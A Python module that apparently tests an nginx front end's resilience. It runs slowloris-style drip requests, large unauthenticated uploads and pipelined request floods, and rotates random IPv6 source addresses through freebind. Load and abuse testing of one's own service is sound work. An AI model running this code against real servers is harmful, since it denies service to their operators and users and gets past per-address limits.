"""Strangers that attack nginx without a token. For a process of their own: they must not slow
down the devices beside them."""

import asyncio
import socket
import ssl
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from ipaddress import IPv6Network
from random import getrandbits

SLOW, BIG, FLOODING = 200, 20, 20
"""How many connections each kind of attack keeps open."""
DRIP_SECONDS = 15
BIG_BYTES = 12_000_000
PIPELINED = 50
_IPV6_FREEBIND = 78  # of linux/in6.h; Python has no name for it
_BAD_TOKEN = "Authorization: Bearer of-nobody-at-all"


@dataclass(frozen=True)
class Plan:
    """Where to, from where (an address, or any in a network), and for how long."""

    address: tuple[str, int]
    certificate: str
    source: str
    seconds: float


def run(plan: Plan) -> Counter[str]:
    """Attack, and return what came of it: statuses of the flood's answers and of other answers."""
    return asyncio.run(_Attack(plan).run())


class _Attack:
    def __init__(self, plan: Plan) -> None:
        self._plan = plan
        self._tls = ssl.create_default_context(cafile=plan.certificate)
        self._tls.check_hostname = False
        self._end = time.monotonic() + plan.seconds
        self._seen: Counter[str] = Counter()

    async def run(self) -> Counter[str]:
        kinds = [
            *[self._drip("POST /x", "Content-Length: 60000")] * (SLOW // 2),
            *[self._drip("POST /api/v1/chunks", "Content-Length: 60000")] * (SLOW // 4),
            *[self._drip("POST /api/v1/admin/devices", "Content-Length: 60000")] * (SLOW // 4),
            *[self._send_much] * BIG,
            *[self._flood] * FLOODING,
        ]
        await asyncio.gather(*(self._again_and_again(kind) for kind in kinds))
        return self._seen

    async def _again_and_again(self, kind: "_Kind") -> None:
        while self._left() > 0:
            with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
                await asyncio.wait_for(self._once(kind), self._left())
            await asyncio.sleep(0.05)

    async def _once(self, kind: "_Kind") -> None:
        connection = _bound_to(_any_address(self._plan.source))
        try:
            await asyncio.get_running_loop().sock_connect(connection, self._plan.address)
        except BaseException:
            connection.close()
            raise
        reader, writer = await asyncio.open_connection(
            sock=connection, ssl=self._tls, server_hostname="localhost"
        )
        try:
            await kind(reader, writer)
        finally:
            writer.transport.abort()

    def _drip(self, line: str, header: str) -> "_Kind":
        """Send a head, and then a byte now and then for as long as the connection lives."""

        async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            began = time.monotonic()
            writer.write(_head(line, header))
            gone = asyncio.ensure_future(reader.read())  # until the connection ends
            try:
                while not (await asyncio.wait([gone], timeout=DRIP_SECONDS))[0]:
                    writer.write(b"x")
            finally:
                gone.cancel()
                lasted = time.monotonic() - began
                self._seen["held for over a minute"] += lasted > 60

        return drip

    async def _send_much(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send a large body with a bad token as fast as it is taken."""
        writer.write(_head("POST /api/v1/chunks", f"Content-Length: {BIG_BYTES}"))
        status = asyncio.ensure_future(_status(reader))
        try:
            for _ in range(BIG_BYTES // 100_000):
                writer.write(bytes(100_000))
                await writer.drain()
        finally:
            self._seen[f"body {await status}"] += 1

    async def _flood(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Ask for what is not there, many times at once, and do not look at the answers."""
        requests = b"GET /x HTTP/1.1\r\nHost: localhost\r\n\r\n" * PIPELINED
        while self._left() > 0:
            writer.write(requests)
            for _ in range(PIPELINED):
                status = await _status(reader)
                self._seen[f"flood {status}"] += 1
                head = await reader.readuntil(b"\r\n\r\n")
                length = head.lower().partition(b"content-length: ")[2].partition(b"\r")[0]
                await reader.readexactly(int(length))

    def _left(self) -> float:
        return self._end - time.monotonic()


_Kind = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def _head(line: str, header: str) -> bytes:
    return f"{line} HTTP/1.1\r\nHost: localhost\r\n{_BAD_TOKEN}\r\n{header}\r\n\r\n".encode()


async def _status(reader: asyncio.StreamReader) -> str:
    line = await reader.readline()
    return line.decode().split(" ")[1] if line else "none"


def _bound_to(source: str) -> socket.socket:
    """Return a socket that connects from this address, also if no interface has it but a route."""
    is_ipv6 = ":" in source
    connection = socket.socket(socket.AF_INET6 if is_ipv6 else socket.AF_INET)
    connection.setblocking(False)
    if is_ipv6:
        connection.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
    connection.bind((source, 0))
    return connection


def _any_address(source: str) -> str:
    if "/" not in source:
        return source
    network = IPv6Network(source)
    return str(network[getrandbits(128 - network.prefixlen)])
